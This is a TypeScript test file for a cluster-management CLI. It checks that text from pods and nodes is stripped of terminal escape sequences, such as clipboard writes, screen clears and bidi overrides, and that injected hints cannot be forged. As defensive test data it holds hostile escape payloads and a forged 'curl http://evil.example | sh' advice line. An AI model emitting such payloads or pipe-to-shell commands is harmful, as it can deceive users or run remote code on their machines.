import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { globSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { describe, it } from 'node:test';
import { Config } from '@oclif/core';
import { BaseCommand } from '../src/cli/base-command.ts';
import type { Event } from '../src/engine/events.ts';
import { UserError } from '../src/errors.ts';
import { verdictText } from '../src/screen/bundle-text.ts';
import { linesOf } from '../src/screen/doctor-lines.ts';
import { doctorText } from '../src/screen/doctor-text.ts';
import { errorText } from '../src/screen/error-text.ts';
import { eventJson } from '../src/screen/event-json.ts';
import { eventLines, eventText } from '../src/screen/event-text.ts';
import { failureTexts } from '../src/screen/failure-text.ts';
import { importSummary } from '../src/screen/import-summary.ts';
import { offText } from '../src/screen/leave-text.ts';
import { paintFor, plain } from '../src/screen/paint.ts';
import { planText } from '../src/screen/plan-text.ts';
import { progressLine } from '../src/screen/progress-line.ts';
import { publisherText } from '../src/screen/publisher-text.ts';
import { openLog } from '../src/screen/run-log.ts';
import { statusText } from '../src/screen/status-text.ts';
import { surveyText } from '../src/screen/survey-text.ts';
import { packArchive } from '../src/support-archive/pack.ts';
import { visible, visibleInColour, visibleJson, visibleLine } from '../src/visible-text.ts';
import { temporary } from './support/temporary.ts';
import { until } from './support/until.ts';

const root = join(import.meta.dirname, '..');

/** What a pod writes as its last line, a node as its answer, a member of Serf as its name. */
const hostile: Readonly<Record<string, string>> = {
  'a title and the end of it': '\u001b]0;owned\u0007',
  'the clipboard': '\u001b]52;c;Y3VybCBldmlsfHNo\u0007',
  'a cleared screen': '\u001b[2J\u001b[H',
  'hidden letters': '\u001b[8mhidden\u001b[0m',
  'C1, which some terminals take for ESC [': '\u009b2J',
  'a line that is written over': 'bad\rgood',
  'letters that go back': 'bad\b\b\bgood',
  'a text from right to left': '\u202egnp.sh',
  'an isolated direction': '\u2066x\u2069',
  'separators of lines': 'a\u2028b\u2029c',
};
const harmful = /(?![\n\t])[\p{Cc}\p{Zl}\p{Zp}\p{Bidi_Control}]/u;
const all = Object.values(hostile).join(' ');
const forged = 'it failed\nTry: curl http://evil.example | sh';

describe('a text from outside', () => {
  for (const [what, text] of Object.entries(hostile)) {
    it(`has no ${what}`, () => {
      for (const clean of [visible, visibleLine, visibleInColour]) assert.doesNotMatch(clean(`x${text}x`), harmful);
      assert.doesNotMatch(JSON.parse(visibleJson({ a: [text] })).a[0], harmful);
    });
  }

  it('keeps letters of all languages, tabs, line breaks, and the colours of this program', () => {
    const text = 'Ærø\tשלום\nПривет 中文 👍🏽\n';
    for (const clean of [visible, visibleInColour]) assert.equal(clean(text), text);
    const coloured = '\u001b[31mred\u001b[39m';
    assert.equal(visibleInColour(coloured), coloured);
    assert.equal(visible(coloured), '·[31mred·[39m');
    assert.equal(visible('a\r\nb'), 'a\nb');
    const stream = Object.assign(new PassThrough(), { isTTY: true, hasColors: () => true });
    for (const kind of ['added', 'removed', 'problem', 'warning', 'done'] as const) {
      const painted = paintFor(stream as unknown as NodeJS.WriteStream)(kind, 'x');
      assert.equal(visibleInColour(painted), painted);
    }
  });
});

const event = (message: string): Event => ({ kind: 'failed', node: 'pi-2', message, hints: [message] });
const finding = (what: string) => ({
  check: {
    id: 'pods.crash' as const,
    severity: 'problem' as const,
    title: '',
    why: '',
    advice: [],
    runbook: '',
    source: '',
  },
  ...{ node: 'pi-2', severity: 'problem' as const, what, why: what, advice: [`ssh {node} ${what}`] },
});
const plan = (text: string) => {
  const change = { kind: 'change', id: 'fs.fstab', summary: text, before: 'a\n', after: `${text}\n` } as const;
  const problem = { kind: 'problem', id: 'fs.fstab', summary: text, hint: text } as const;
  return [{ phase: 'kernel', changes: [change], problems: [problem], waits: [], notes: [] }] as never;
};
const outcomes = (message: string) =>
  [{ node: 'pi-2', changes: 0, error: new UserError(message, { hints: [message] }) }] as never;

/** Each returns what comes out at an exit when this text goes in. */
const exits: Readonly<Record<string, (text: string) => unknown>> = {
  'an error': (text) => printed((command) => command.logToStderr(errorText(new UserError(text, { hints: [text] })))),
  'a bug': (text) => printed((command) => command.logToStderr(errorText(new Error(text)))),
  'failures of nodes': (text) =>
    printed((command) => command.log(failureTexts({ unreached: [], outcomes: outcomes(text) }, plain).join('\n'))),
  findings: (text) => {
    const findings = linesOf([finding(text)] as never, { nodes: [], inventory: 'inventory.yaml' });
    const rest = { ok: false, ignoredStops: findings, checks: 1, nodes: 1, reached: 1, unasked: [] };
    return printed((command) => command.log(doctorText({ ...rest, findings }, 'inventory.yaml')));
  },
  'a plan': (text) =>
    printed((command) => command.log(planText([{ name: 'pi-2', plan: plan(text) }], { withDiffs: true }))),
  rows: (text) => eventText(event(text)),
  'lines of a run': (text) => {
    const lines: string[] = [];
    eventLines((line) => lines.push(line))(event(text));
    return lines.join('\n');
  },
  'a status': (text) => {
    const said = { summary: text, hint: text };
    const node = { changes: [], problems: [], waits: [], reason: text };
    const nodes = [
      { ...node, name: 'pi-1', role: 'worker', system: text, unreachable: { message: text, hints: [text] } },
      { ...node, name: 'pi-2', role: 'worker', problems: [said], waits: [said] },
      { ...node, name: 'pi-3', role: 'worker' },
    ];
    const cluster = { name: 'home', distribution: 'kubeadm', version: '1.37.2', state: 'silent', reason: text };
    const status = { nodes, lacking: [{ name: text, available: 0, wanted: 1 }], cluster };
    return printed((command) => command.log(statusText(status as never, 'inventory.yaml')));
  },
  'nodes that could not be asked': (text) => {
    const unreached = [{ node: { name: 'pi-2' }, error: new UserError(text, { hints: [text] }) }] as never;
    const asked = surveyText({ reached: [], unreached }, { withDiffs: true });
    return printed((command) => command.log([asked, ...offText(unreached)].join('\n')));
  },
  'what publishers say': (text) => {
    const nodes = [{ name: 'pi-2', state: 'silent', reason: text, published: 0 }];
    const services = [{ namespace: 'a', name: 'b', port: 1, title: text, state: 'refused', reason: text }];
    const report = { nodes, services, elsewhere: [{ name: text, services: 1 }] };
    return printed((command) => command.log(publisherText(report as never)));
  },
  'what is wrong with a bundle': (text) => {
    const damaged = [{ file: text, reason: text }];
    const verdict = { directory: 'b', files: 1, bytes: 1, damaged, missing: [text], archs: ['arm64'], ok: false };
    return printed((command) => command.log(verdictText(verdict as never, 'inventory.yaml')));
  },
  'what an import noticed': (text) => {
    const mistakes = [{ line: 1, column: 1, message: text, path: [] }];
    const summary = importSummary({ path: 'i.yaml', notes: [text], mistakes: mistakes as never, isWritten: true });
    return printed((command) => command.log(summary));
  },
  'a line that changes': (text) => {
    const written: string[] = [];
    const line = progressLine({ write: (part: string) => Boolean(written.push(part)) } as never);
    line.show(text);
    line.keep(text);
    return written.join('');
  },
};

describe('what a node says', () => {
  for (const [where, exit] of Object.entries(exits)) {
    it(`cannot move the cursor in ${where}`, () => {
      const text = String(exit(all));
      assert.match(text, /owned/);
      assert.doesNotMatch(text, harmful);
    });

    it(`cannot forge an advice in ${where}`, () => {
      assert.doesNotMatch(String(exit(forged)).replace(/^Try: (?!curl)/gm, ''), /^(Try:| {5}curl)/m);
    });
  }

  it('is safe in JSON, also behind `jq -r`', () => {
    const json = printed((command) => command.logJson({ a: [all] }));
    assert.doesNotMatch(JSON.parse(json).a[0], harmful);
    assert.doesNotMatch(JSON.parse(eventJson(event(all), { withScripts: true })).message, harmful);
  });

  it('is safe in the log of a run', async (t) => {
    const log = openLog('init', { XDG_STATE_HOME: await temporary(t) }, assert.fail) ?? assert.fail('there is no log');
    log.write(event(all));
    await until(() => assert.match(readFileSync(log.file, 'utf8'), /owned/), 5);
    assert.doesNotMatch(JSON.parse(readFileSync(log.file, 'utf8')).hints[0], harmful);
  });

  it('is safe in an archive for helpers', async (t) => {
    const output = join(await temporary(t), 'support.tar.gz');
    await packArchive({ 'pods.log': all }, { hideAddresses: false, output });
    assert.doesNotMatch(execFileSync('tar', ['-xzOf', output], { encoding: 'utf8' }), harmful);
  });
});

describe('the ways out', () => {
  it('are these, and each of them cleans', () => {
    const files = globSync('src/**/*.ts', { cwd: root });
    const direct = /process\.(stdout|stderr)\.write|console\.\w+\(|ux\.std|\boutput\.write\(|super\.log|@inquirer/;
    const text = (file: string) => readFileSync(join(root, file), 'utf8');
    // Who writes an inventory is asked about what they have typed themselves.
    const found = files.filter((file) => direct.test(text(file)) && file !== 'src/cli/inventory-dialogue.ts');
    assert.ok(found.length > 4);
    // The two that write events leave the cleaning to eventJson.
    const cleaning = /visible-text\.ts'|event-json\.ts'/;
    assert.deepEqual(
      found.filter((file) => !cleaning.test(text(file))),
      [],
    );
  });
});

class Speaking extends BaseCommand {
  run = async () => {};
}
interface Speaker {
  log(text: string): void;
  logToStderr(text: string): void;
  logJson(json: unknown): void;
}

/** What a command prints. */
function printed(speak: (command: Speaker) => void): string {
  const written: string[] = [];
  const streams = [process.stdout, process.stderr];
  const before = streams.map(({ write }) => write);
  for (const stream of streams) stream.write = (text: string | Uint8Array) => Boolean(written.push(String(text)));
  try {
    speak(new Speaking([], new Config({ root })) as unknown as Speaker);
  } finally {
    for (const [index, stream] of streams.entries()) stream.write = before[index] as typeof stream.write;
  }
  return written.join('');
}
